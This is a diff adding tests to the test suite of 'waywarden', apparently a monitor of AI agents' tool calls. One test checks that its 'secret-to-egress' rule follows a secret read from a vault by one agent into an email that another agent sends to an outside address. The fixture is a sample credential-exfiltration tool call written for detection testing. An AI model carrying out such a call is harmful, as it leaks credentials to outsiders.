@@ -34,6 +34,29 @@ interface TestReport {
 
 const json = <T>(stdout: string) => JSON.parse(stdout.trim().split('\n').at(-1) ?? '') as T;
 
+const call = (native_id: string, over: object) => ({
+  ...{ native_id, activity: 'tool_call', phase: 'completed', outcome: 'success', ...over },
+});
+const SECRET = ['AKIA', '4QX7T2M9ZL0PWE5R'].join('');
+const readsSecret = call('call-1', {
+  ...{ event_time: '2026-11-24T09:00:00Z', agent: { uid: 'agent/vault-bot' } },
+  ...{ task: { id: 'rotate-keys' }, tool: { name: 'get_secret', server: 'vault' } },
+  ...{ args: { value: { name: 'crm' } }, result: { value: { secret: SECRET } } },
+});
+const sendsSecret = call('call-2', {
+  ...{ event_time: '2026-11-24T09:30:00Z', agent: { uid: 'agent/mail-bot' } },
+  ...{ task: { id: 'morning-mail' }, tool: { name: 'send_email', server: 'mail' } },
+  args: { value: { to: 'eve@outside.example', body: SECRET } },
+});
+
+interface Explained {
+  readonly combinations: readonly {
+    readonly alert: unknown;
+    readonly because: readonly string[];
+  }[];
+}
+const firstOf = (stdout: string) => json<Explained>(stdout).combinations[0] ?? { alert: null };
+
 describe('waywarden policy', () => {
   beforeAll(async () => {
     await runCommand(
@@ -109,5 +132,44 @@ describe('waywarden policy', () => {
       one.stdout,
     );
     expect(combinations).toHaveLength(17);
+  }, 180_000);
+
+  it('explain follows a value from another chain, and says the same of files and of a folder', async () => {
+    const file = join(folder, 'two-chains.ndjson');
+    writeFileSync(file, [readsSecret, sendsSecret].map((one) => JSON.stringify(one)).join('\n'));
+    const stored = join(folder, 'two-chains');
+    await runCommand('replay', file, '--format', 'events', '--data', stored, '--json');
+    const asked = await runWaywarden('policy', 'explain', '--events', file);
+    const [, chain = ''] = /--chain (\S+) +\(task morning-mail/.exec(asked.stderr) ?? [];
+    const about = ['--chain', chain, '--combination', 'secret-to-egress'] as const;
+    const explain = ['policy', 'explain', ...about] as const;
+    const ofFiles = await runWaywarden(
+      ...explain,
+      ...['--events', file, '--assurance', 'asserted', '--json'],
+    );
+    const ofFolder = await runWaywarden(...explain, '--data', stored, '--json');
+    expect(json(ofFolder.stdout)).toMatchObject({
+      calls: 1,
+      from_chains: [{ calls: 1, via: ['data_flow'] }],
+      combinations: [{ combination: 'secret-to-egress', fired: true }],
+    });
+    const { alert: _, ...said } = firstOf(ofFolder.stdout);
+    expect(firstOf(ofFiles.stdout)).toMatchObject(said);
+  }, 180_000);
+
+  it('registry propose changes nothing, and asks for a registry', async () => {
+    const reviewed = join(folder, 'reviewed.txt');
+    writeFileSync(reviewed, 'nobody-knows-this # by ana\n');
+    const propose = ['registry', 'propose', '--data', data, '--reviewed', reviewed] as const;
+    const ran = await runWaywarden(...propose, '--json');
+    expect(ran.code).toBe(0);
+    expect(json(ran.stdout)).toEqual({
+      ...{ proposals: [], left_out: {}, unknown: ['nobody-knows-this'] },
+    });
+    const other = await runWaywarden(...propose, '--tenant', 'nobody');
+    expect([other.code, other.stderr.includes('has no registry of tenant nobody')]).toEqual([
+      2,
+      true,
+    ]);
   }, 180_000);
 });
